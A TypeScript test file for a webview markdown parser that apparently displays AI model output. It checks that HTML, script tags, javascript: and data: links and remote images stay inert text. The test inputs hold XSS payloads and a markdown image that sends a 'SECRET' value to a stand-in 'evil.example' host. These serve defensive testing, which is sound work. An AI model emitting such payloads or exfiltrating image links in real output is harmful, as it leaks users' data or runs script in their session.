// Model text becomes tokens (then DOM nodes), never HTML; only http(s) links; no image is fetched.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { isSafeHref, parseBlocks, parseInline } from '../../../webview-ui/shared/markdownParse';

test('HTML in model text stays text', () => {
  const blocks = parseBlocks('<img src=x onerror=alert(1)> and <script>alert(1)</script>');
  assert.deepEqual(blocks, [{ t: 'p', inline: [{ t: 'text', text: '<img src=x onerror=alert(1)> and <script>alert(1)</script>' }] }]);
});

test('javascript: and data: links are text, http(s) links are links', () => {
  assert.ok(!JSON.stringify(parseInline('[x](javascript:alert(1))')).includes('"link"'));
  assert.ok(!JSON.stringify(parseInline('[x](data:text/html,hi)')).includes('"link"'));
  assert.deepEqual(parseInline('see [docs](https://example.com/a)'), [
    { t: 'text', text: 'see ' },
    { t: 'link', href: 'https://example.com/a', children: [{ t: 'text', text: 'docs' }] },
  ]);
  assert.equal(isSafeHref('JAVASCRIPT:alert(1)'), false);
  assert.equal(isSafeHref('http://x'), true);
});

test('images are never fetched: shown as text', () => {
  const nodes = parseInline('![](https://evil.example/?d=SECRET)');
  assert.deepEqual(
    nodes.map((n) => n.t),
    ['text'],
  );
});

test('code fences, lists, headings, emphasis', () => {
  const b = parseBlocks('# Title\n\n- one\n- **two**\n\n```js\nconst a = `<b>`;\n```\nplain *em* `code`');
  assert.deepEqual(
    b.map((x) => x.t),
    ['h', 'list', 'code', 'p'],
  );
  assert.equal((b[2] as { text: string }).text, 'const a = `<b>`;');
  assert.deepEqual(
    (b[3] as { inline: { t: string }[] }).inline.map((n) => n.t),
    ['text', 'em', 'text', 'code'],
  );
});

test('code blocks are highlighted as a token tree, never as HTML; unknown languages stay plain', async () => {
  const { highlightTokens } = await import('../../../webview-ui/shared/codeHighlight');
  const tokens = highlightTokens('const a = "<img src=x onerror=alert(1)>"; // hi', 'js');
  assert.ok(tokens);
  const flat = JSON.stringify(tokens);
  assert.match(flat, /"scope":"keyword","children":\["const"\]/);
  // The markup in the string is a text token, exactly as written (no entity escaping to undo, no HTML to parse).
  assert.match(flat, /"children":\["\\"<img src=x onerror=alert\(1\)>\\""\]/);
  const text = (n: unknown): string => (typeof n === 'string' ? n : (n as { children: unknown[] }).children.map(text).join(''));
  assert.equal(tokens.map(text).join(''), 'const a = "<img src=x onerror=alert(1)>"; // hi');
  assert.equal(highlightTokens('x', 'no-such-language'), undefined);
  assert.equal(highlightTokens('x', undefined), undefined);
});
